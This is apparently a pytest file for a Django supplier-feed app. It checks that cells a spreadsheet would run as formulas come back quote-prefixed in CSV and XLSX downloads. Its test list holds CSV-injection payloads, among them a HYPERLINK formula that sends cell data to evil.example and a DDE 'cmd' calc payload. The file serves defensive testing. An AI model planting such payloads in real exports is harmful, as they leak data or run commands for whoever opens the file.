"""Supplier cells that a spreadsheet would run as formulas come back neutralized in the job's CSV and
XLSX downloads (OWASP CSV injection guidance); plain numbers and other text are unchanged.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from connector.roles import SDM_ADMIN
from sdm.feeds import neutralize
from tests.api.test_supplier_api import project, token_via_client, user_with  # noqa: F401 (fixture)
from tests.sdm_helpers import api_job

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",  # a full-width equals sign, read as "=" by some spreadsheets
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_get_a_leading_quote(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+3.25", "-1e5", "plain", "a=b", "", "12-3"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralize(value) == value


def test_the_job_download_neutralizes_formulas_in_csv_and_xlsx(client, project):  # noqa: F811
    cache.clear()
    user_with(SDM_ADMIN)
    auth = {"HTTP_AUTHORIZATION": f"Token {token_via_client(client, 'supplier-bot')}"}
    lines = ["sku,family,name-en_US"] + [
        f'F-{n},accessories,"{v.replace(chr(34), 2 * chr(34))}"' for n, v in enumerate(HOSTILE)
    ]
    lines.append("F-9,accessories,-5")
    feed = "\n".join(lines).encode()
    url = f"/api/v1/jobs/{api_job(client, auth, project, feed)}/download/"

    rows = list(csv.reader(io.StringIO(client.get(url, {"format": "csv"}, **auth).content.decode())))
    names = [row[2] for row in rows[1:]]
    assert names == ["'" + value.strip() for value in HOSTILE] + ["-5"]  # the import trims cells

    sheet = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}, **auth).content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == names
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
